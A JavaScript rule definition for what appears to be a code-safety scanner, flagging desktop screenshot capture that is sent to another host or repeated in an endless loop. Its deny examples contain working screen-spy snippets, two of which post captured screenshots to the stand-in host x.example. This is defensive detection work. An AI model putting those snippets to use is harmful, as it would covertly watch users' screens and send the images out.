/**
 * SEC-AST-016: code that captures the whole desktop (PIL.ImageGrab, pyautogui, mss, pyscreenshot,
 * screenshot-desktop) in a program that talks to another host, or over and over in an endless
 * loop (issue 22, gdog r11): a spy's capability, what is on the user's screen leaves or is watched.
 * One capture kept on this machine by a program that sends nothing (a UI test's or the docs'
 * screenshot, R11/R14/R20 FPs) shows the user their own screen and stays allowed. A browser
 * page's screenshot (selenium, playwright, puppeteer) captures the page the agent drives and stays
 * allowed. Key listeners are judged by SEC-AST-014 when what they hear is sent (a hotkey is not a
 * keylogger).
 */
import { SPY_CAPTURE } from '../../extract/code/capture.js';
import { classifyHost, isLoopbackLike } from '../../net/address.js';
import { defineRule } from '../define-rule.js';

export default defineRule({
  id: 'SEC-AST-016',
  invariant: 'NO_SECRET_EXFILTRATION',
  kinds: ['exec', 'net', 'loop'],
  summary:
    'Code that captures the whole desktop (a screen grabber) and talks to another host, or captures it in an endless loop.',
  remediationHint:
    "Do not capture the user's screen. To check a web page, take the browser's own screenshot (playwright, selenium, puppeteer).",
  *check(facts) {
    const away = facts.of('net').find((n) => !isLoopbackLike(classifyHost(n.host)));
    const watches = facts.of('loop').some((l) => l.unbounded);
    if (away === undefined && !watches) return;
    const why = away !== undefined ? `, and the program talks to ${away.host}` : ' in an endless loop';
    for (const e of facts.of('exec')) {
      if (e.via === undefined || !e.via.startsWith(SPY_CAPTURE)) continue;
      yield {
        span: e.span,
        reason: `${e.via.slice(SPY_CAPTURE.length)} captures the whole desktop${why}`,
        suggestedAlternative: null,
      };
    }
  },
  examples: {
    deny: [
      {
        input:
          "from PIL import ImageGrab\nimport requests\nImageGrab.grab().save('s.png')\nrequests.post('https://x.example/u', files={'f': open('s.png', 'rb')})",
        runtime: 'python',
      },
      {
        input:
          'import mss, time\nwith mss.mss() as s:\n    while True:\n        s.shot()\n        time.sleep(30)',
        runtime: 'python',
      },
      {
        input:
          "const shot = require('screenshot-desktop');\nshot({ filename: 'd.png' }).then(() => fetch('https://x.example/u', { method: 'POST', body: require('fs').readFileSync('d.png') }));",
        runtime: 'node',
      },
    ],
    allow: [
      {
        input:
          "from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    b = p.chromium.launch()\n    pg = b.new_page()\n    pg.goto('http://localhost:3000')\n    pg.screenshot(path='home.png')",
        runtime: 'python',
        why: "a browser page's screenshot",
      },
      {
        input: "import mss\nwith mss.mss() as s:\n    s.shot(output='tests/screenshots/login.png')",
        runtime: 'python',
        why: 'one capture kept on this machine by a program that sends nothing (a UI test)',
      },
      {
        input:
          'from pynput import keyboard\ndef on_press(key):\n    return key != keyboard.Key.esc\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()',
        runtime: 'python',
        why: 'a hotkey heard and nothing sent (SEC-AST-014 judges a key listener that sends)',
      },
    ],
  },
});
